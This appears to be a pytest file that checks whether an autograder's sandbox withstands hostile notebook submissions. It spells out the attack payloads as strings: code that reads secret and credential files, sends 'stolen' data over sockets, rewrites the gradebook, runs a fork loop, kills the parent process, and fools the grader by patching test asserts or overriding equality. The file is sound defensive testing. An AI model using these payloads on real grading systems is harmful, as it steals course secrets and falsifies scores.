"""Attacks by submissions, graded end to end with `course grade` (sandbox on).

One batch on the small generated assignment: two honest students and one
attacker per attack. Each attack is bounded on its own (small limits passed
to `course grade`, a fork loop that stops at 200, an allocation of 4x the
memory limit, a file of 64 MiB at most), so a failing sandbox cannot take
the test machine down. Asserted: honest students keep their exact scores,
the course's files and gradebook are unchanged except for the grade records,
each attacker gets a clear status, at most the points of its honest part,
and a flag from the static audit.
"""

from __future__ import annotations

import json
import os
import sqlite3
import sys
import time
from pathlib import Path

import pytest

from tests.grading.conftest import (
    copy_course,
    gradebook_scores,
    loopback_listener,
    run_course_grade,
    tree_state,
)
from tests.grading.small_assignment import (
    HIDDEN_MARKER,
    MAX_SCORE,
    POINTS,
    SOLUTIONS,
    release_notebook,
    solution_notebook,
    with_answer,
)

pytestmark = pytest.mark.grade  # every test here runs `course grade`

CANARY = "CANARY-7f3a-not-for-students"
"""Planted in secret files of the course; must never appear in any output."""

LIMITS = ["--memory-mb", "1024", "--max-processes", "64", "--file-size-mb", "16",
          "--wall-seconds", "120", "--timeout", "20", "--jobs", "2"]

WRONG = {1: "def square(x):\n    return x",
         2: "def mean_abs(x):\n    return 0.0",
         3: "def standardize(x):\n    return x"}

READ_SECRETS = """
import glob, os
found = []
folder = os.getcwd()
for _ in range(8):
    for pattern in ('*.ipynb', '*/*.ipynb', '*/*/*.ipynb', 'gradebook.db', '*.txt', '*/*.txt'):
        found += glob.glob(os.path.join(folder, pattern))
    folder = os.path.dirname(folder)
found += [os.path.join(COURSE, 'gradebook.db'), os.path.join(COURSE, 'solutions', 'canary.txt'),
          os.path.join(COURSE, 'solutions', 'small', 'small.ipynb'),
          '/work/main/solutions', os.path.expanduser('~/.bashrc')]
for path in found:
    try:
        print('LEAK', path, open(path, errors='replace').read()[:20000])
    except OSError as error:
        print('blocked', path, error.errno)
"""

WRITE_GRADEBOOK = """
import os, sqlite3
for path in [os.path.join(COURSE, 'gradebook.db'), '../../../gradebook.db',
             '../../gradebook.db', 'gradebook.db']:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET manual_score = 100")
        db.execute("CREATE TABLE owned (x)")
        db.commit()
        print('WROTE', path)
    except sqlite3.Error as error:
        print('blocked', path, error)
# A fake graded notebook next to the submission, hoping the grader reads it.
open('small.ipynb', 'w').write('{"cells": []}')
"""

SOCKETS = """
import socket
for address in [('127.0.0.1', PORT), ('8.8.8.8', 53)]:
    try:
        socket.create_connection(address, timeout=5).sendall(b'stolen'); print('CONNECTED')
    except OSError as error:
        print('blocked', address, error.errno)
"""

FORK_LOOP = """
import os, time
children = []
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    children.append(pid)
print('forked', len(children))
"""

MEMORY_HOG = "import numpy\nhog = numpy.ones(4 * 1024 * 2**20 // 8)"

HUGE_FILE = """
with open('huge.bin', 'wb') as f:
    for _ in range(64):
        f.write(b'x' * 2**20)
"""

KILL_PARENT = """
import os, signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError as error:
    print('blocked', error.errno)
os.killpg(0, signal.SIGKILL)
"""

PATCH_TESTING = """
import numpy as np
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
"""

ALWAYS_EQUAL = """
class Anything(float):
    def __eq__(self, other):
        return True
    def __le__(self, other):
        return True
    __hash__ = float.__hash__
def square(x):
    return Anything()
def mean_abs(x):
    return Anything()
def standardize(x):
    return Anything()
"""


PATCH_BUILTINS = """
import builtins
builtins.isinstance = lambda *args: True
"""

ATTACK_TASK = {"patch_builtins": 3}
"""The answer cell that holds the attack code (default: task 1)."""


def _attack(release: dict, code: str, honest: dict[int, str] | None = None,
            where: int = 1) -> dict:
    """The release with ``code`` in answer ``where`` (before that answer's own code)."""
    honest = honest or {}
    notebook = release
    for task in (1, 2, 3):
        answer = honest.get(task, WRONG[task])
        if task == where:
            answer = code + "\n" + answer
        notebook = with_answer(notebook, task, answer)
    return notebook


ATTACKS: dict[str, tuple[str, dict[int, str], set[str], str]] = {
    # student: (code, honest answers kept, audit rules expected (any), status)
    "read_secrets": (READ_SECRETS, {1: SOLUTIONS[1]}, {"grading-files", "import-glob"},
                     "graded"),
    "write_gradebook": (WRITE_GRADEBOOK, {}, {"import-sqlite3"}, "graded"),
    "sockets": (SOCKETS, {1: SOLUTIONS[1]}, {"import-socket"}, "graded"),
    "fork_bomb": (FORK_LOOP, {}, {"process-control"}, "graded"),
    "memory_hog": (MEMORY_HOG, {2: SOLUTIONS[2]}, set(), "graded|kernel died"),
    "huge_file": (HUGE_FILE, {3: SOLUTIONS[3]}, set(), "graded"),
    "kill_parent": (KILL_PARENT, {}, {"process-control"}, "kernel died"),
    "patch_testing": (PATCH_TESTING, {}, {"patch-testing"}, "graded"),
    "always_equal": (ALWAYS_EQUAL, {}, {"override-equality"}, "graded"),
    # Breaks ipykernel itself in task 3: the tasks before it keep their points.
    "patch_builtins": (PATCH_BUILTINS, {1: SOLUTIONS[1], 2: SOLUTIONS[2]},
                       {"patch-builtins"}, "graded"),
}


def _outputs(course: Path, student: str) -> str:
    """The text of every output of the student's graded notebook."""
    path = course / "autograded" / student / "small" / "small.ipynb"
    texts = []
    for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]:
        for output in cell.get("outputs", []):
            for key in ("text", "evalue", "traceback"):
                value = output.get(key, "")
                texts.append("".join(value) if isinstance(value, list) else str(value))
    return "\n".join(texts)


def _honest_score(kept: dict[int, str]) -> float:
    return float(sum(POINTS[task] for task in kept))


@pytest.fixture(scope="module")
def attack_batch(tmp_path_factory, small_course_template):
    """Grades the batch once; returns what the tests look at."""
    base = tmp_path_factory.mktemp("attacks")
    course = copy_course(small_course_template, base / "course")
    (course / "solutions" / "canary.txt").write_text(CANARY, encoding="utf-8")
    with loopback_listener() as (port, accepted):
        prefix = f"COURSE = {str(course)!r}\nPORT = {port}\n"
        release = release_notebook(course)
        notebooks = {"honest_full": with_answer(with_answer(with_answer(release, 1, SOLUTIONS[1]),
                                                            2, SOLUTIONS[2]), 3, SOLUTIONS[3]),
                     "honest_partial": with_answer(with_answer(release, 1, SOLUTIONS[1]),
                                                   2, SOLUTIONS[2])}
        for student, (code, kept, _, _) in ATTACKS.items():
            notebooks[student] = _attack(release, prefix + code, kept,
                                         ATTACK_TASK.get(student, 1))
        # The attacker of the kernelspec asks for another kernel than the sandboxed one.
        notebooks["read_secrets"]["metadata"]["kernelspec"]["name"] = "python3-unsandboxed"
        submissions = base / "submissions"
        submissions.mkdir()
        for student, notebook in notebooks.items():
            (submissions / f"{student}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
        before_submissions = tree_state(submissions)
        from nbgrader.api import Gradebook

        path = os.environ.get("PATH", "")
        os.environ["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), path])
        try:  # nbgrader runs `alembic` from PATH to create a gradebook
            with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
                gradebook.update_or_create_student("earlier_student", first_name="Earlier")
        finally:
            os.environ["PATH"] = path
        before_course = tree_state(course)
        start = time.monotonic()
        run = run_course_grade(course, submissions, *LIMITS, timeout=900)
    return {"course": course, "run": run, "accepted": accepted,
            "seconds": time.monotonic() - start, "submissions": submissions,
            "before_submissions": before_submissions, "before_course": before_course,
            "solution": solution_notebook(course)}


def test_batch_runs_with_the_sandbox(attack_batch):
    run = attack_batch["run"]
    assert run.returncode == 0, run.stderr[-3000:]
    assert run.report["sandbox"] is True
    assert set(run.rows()) == {"honest_full", "honest_partial", *ATTACKS}
    print(f"attack batch graded in {attack_batch['seconds']:.0f} s")


def test_honest_students_keep_their_exact_scores(attack_batch):
    rows = attack_batch["run"].rows()
    assert rows["honest_full"]["score"] == MAX_SCORE
    assert rows["honest_partial"]["score"] == POINTS[1] + POINTS[2]
    scores = gradebook_scores(attack_batch["course"])
    for student in ("honest_full", "honest_partial"):
        assert rows[student]["status"] == "graded"
        assert rows[student]["audit"] == ""
        assert scores[student]["score"] == rows[student]["score"]


@pytest.mark.parametrize("student", list(ATTACKS))
def test_attacker_gets_a_clear_status_and_no_stolen_points(attack_batch, student):
    _, kept, rules, status = ATTACKS[student]
    row = attack_batch["run"].rows()[student]
    assert row["score"] <= _honest_score(kept), row
    assert row["status"] in status.split("|"), row
    if row["status"] != "graded":
        assert row["message"], row
    found = {finding.split(" ")[0] for finding in row["audit"].split("; ") if finding}
    assert rules <= found, f"expected audit rules {rules}, got {row['audit']!r}"
    assert gradebook_scores(attack_batch["course"])[student]["score"] == row["score"]


def test_honest_parts_of_attackers_still_count(attack_batch):
    rows = attack_batch["run"].rows()
    # The attack code runs in the same cell as a correct answer: both run.
    for student in ("read_secrets", "sockets", "huge_file", "patch_builtins"):
        assert rows[student]["score"] == _honest_score(ATTACKS[student][1]), rows[student]
    assert "kernel stopped responding during cell task3" in rows["patch_builtins"]["message"]


def test_no_secret_reaches_any_output(attack_batch):
    course = attack_batch["course"]
    solution_lines = [line for line in SOLUTIONS[3].splitlines() if "BEGIN" not in line]
    for folder in ("autograded", "feedback"):
        for path in (course / folder).rglob("*"):
            if path.is_file():
                text = path.read_text(encoding="utf-8", errors="replace")
                assert CANARY not in text, path
                assert HIDDEN_MARKER not in text, path
                assert "sqlite format" not in text.lower(), path
    outputs = _outputs(course, "read_secrets")
    assert "blocked" in outputs and "LEAK" not in outputs, outputs[:3000]
    assert solution_lines[-1].strip() not in outputs


def test_no_connection_reached_the_grader(attack_batch):
    assert attack_batch["accepted"] == []
    course = attack_batch["course"]
    outputs = _outputs(course, "sockets")
    assert "CONNECTED" not in outputs and outputs.count("blocked") == 2, outputs


def test_course_files_and_gradebook_are_intact(attack_batch):
    course, before = attack_batch["course"], attack_batch["before_course"]
    after = tree_state(course)
    changed = {path for path in before if after.get(path) != before[path]}
    assert changed <= {"gradebook.db"}, changed
    new = set(after) - set(before)
    allowed = ("autograded/", "feedback/", "grades.csv", "grading-report-", ".course-grade")
    assert [path for path in new if not path.startswith(allowed)] == []
    with sqlite3.connect(course / "gradebook.db") as db:
        tables = {row[0] for row in db.execute("SELECT name FROM sqlite_master")}
        manual = db.execute("SELECT COUNT(*) FROM grade WHERE manual_score = 100").fetchone()[0]
        students = {row[0] for row in db.execute("SELECT id FROM student")}
    assert "owned" not in tables and manual == 0
    assert students == {"earlier_student", "honest_full", "honest_partial", *ATTACKS}
    assert set(gradebook_scores(course)) == students - {"earlier_student"}
    graded = course / "autograded" / "write_gradebook" / "small" / "small.ipynb"
    assert len(json.loads(graded.read_text())["cells"]) > 0
    assert "WROTE" not in _outputs(course, "write_gradebook")


def test_submissions_are_byte_identical(attack_batch):
    assert tree_state(attack_batch["submissions"]) == attack_batch["before_submissions"]


def test_fork_loop_was_stopped_by_the_process_limit(attack_batch):
    course = attack_batch["course"]
    forked = int(_outputs(course, "fork_bomb").split("forked ")[1].split()[0])
    assert forked < 64, forked


def test_huge_file_was_cut_at_the_size_limit(attack_batch):
    course = attack_batch["course"]
    text = _outputs(course, "huge_file")
    assert "File too large" in text or "Errno 27" in text, text
    assert not (course / "autograded" / "huge_file" / "small" / "huge.bin").exists()
